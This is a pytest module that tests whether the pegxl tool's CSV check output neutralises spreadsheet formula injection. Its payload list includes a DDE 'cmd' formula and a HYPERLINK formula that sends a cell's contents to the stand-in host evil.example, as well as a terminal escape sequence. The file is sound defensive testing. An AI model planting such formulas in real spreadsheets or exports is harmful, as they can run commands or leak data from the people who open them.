"""Nothing pegxl writes as CSV becomes a live formula, and no value breaks a record.

Payloads go through every text field that reaches the CSV of ``pegxl check``: what a sector
typed (an unreadable value, a changed locked cell), the plan's own text quoted in a finding, and
the file name. The CSV is parsed back: every record is whole, and no field starts with what
makes a spreadsheet evaluate it."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from pegxl import load_plan, save_plan
from pegxl.cli import main
from pegxl.model import Period
from pegxl.outputs import csv_cell, csv_text
from pegxl.returns.report import CSV_COLUMNS
from pegxl.workbook.writer import generate

from .tables import plan_tables, write_book

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "a;b;c",
    'dice "ciao"',
    "riga uno\rriga due=1+1",
    "riga uno\n=2+2",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
]
TRIGGERS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _safe(field: str) -> bool:
    return field[:1] not in TRIGGERS and field.lstrip(" \u00a0")[:1] not in TRIGGERS


def test_every_payload_is_one_inert_field() -> None:
    rows = [["code", "raw"], *[["X", p] for p in PAYLOADS], ["N", -5.0], ["N", 12]]
    parsed = list(csv.reader(io.StringIO(csv_text(rows), newline=""), delimiter=";"))
    assert len(parsed) == len(rows)
    for original, back in zip(rows, parsed, strict=True):
        assert back == [csv_cell(v) for v in original]
        assert all(_safe(f) for f, v in zip(back, original, strict=True) if isinstance(v, str))
    assert parsed[-2:] == [["N", "-5.0"], ["N", "12"]]  # numbers pegxl writes stay numbers
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("ciao") == "ciao"


@pytest.fixture(scope="module")
def payload_returns(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    """A plan whose phase name is a payload, and one return per payload: typed into a value
    cell, typed over a locked cell, and in the file's name."""
    tmp = tmp_path_factory.mktemp("csv")
    loaded = load_plan(write_book(tmp / "base.xlsx", plan_tables()))
    assert loaded.plan is not None
    o = loaded.plan.objectives[0]
    evil = replace(o, phases=(replace(o.phases[0], name=PAYLOADS[1]), *o.phases[1:]))
    plan = replace(loaded.plan, objectives=(evil,))
    plan_path = save_plan(plan, tmp / "piano.xlsx")
    [blank] = generate(plan, Period.of(date(2025, 6, 30)), tmp / "schede").files
    files = []
    for n, payload in enumerate(PAYLOADS):
        wb = openpyxl.load_workbook(blank)
        typed = payload.replace("\x1b", "")  # a cell cannot hold ESC; the file name can
        for ref in ("H4", "B5"):  # H4 is not a percentage: VALUE-001 quotes it; B5 is a
            cell = wb["Fasi"][ref]  # locked plan cell: STRUCT-011 quotes what was typed and
            cell.value = typed  # the plan's own text
            cell.data_type = "s"  # typed as text, as a user does (openpyxl would make a formula)
        name = payload.replace("/", "_") if n % 2 == 0 else f"{n:02d}"
        path = tmp / "risposte" / f"{name}.xlsx"
        path.parent.mkdir(exist_ok=True)
        wb.save(path)
        files.append(path)
    return plan_path, files


def test_check_csv_neutralises_every_payload(
    payload_returns: tuple[Path, list[Path]],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    plan_path, paths = payload_returns
    monkeypatch.chdir(paths[0].parent)  # file names given as typed: the payload comes first
    files = [Path(p.name) for p in paths]
    main(["check", str(plan_path), "--format", "json", "--", *map(str, files)])
    findings = json.loads(capsys.readouterr().out)["findings"]
    main(["check", str(plan_path), "--format", "csv", "--", *map(str, files)])
    out = capsys.readouterr().out.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=";"))
    assert len(rows) == 1 + len(findings)  # no value split a record or started a new one
    cols = CSV_COLUMNS
    for row, f in zip(rows[1:], findings, strict=True):
        assert len(row) == len(CSV_COLUMNS)
        assert all(_safe(field) for field in row), row
        record = dict(zip(cols, row, strict=True))
        for key in ("code", "file", "cell", "raw", "expected"):
            assert record[key] == csv_cell(f[key]), key
    raws = {r[7] for r in rows[1:]} | {r[8] for r in rows[1:]}
    for payload in PAYLOADS[:10]:
        assert csv_cell(payload) in raws  # every payload arrived, inert
    names = {r[2] for r in rows[1:]}
    for payload in PAYLOADS[::2]:
        assert csv_cell(payload.replace("/", "_") + ".xlsx") in names
    assert "\x1b" not in out and "\x07" not in out
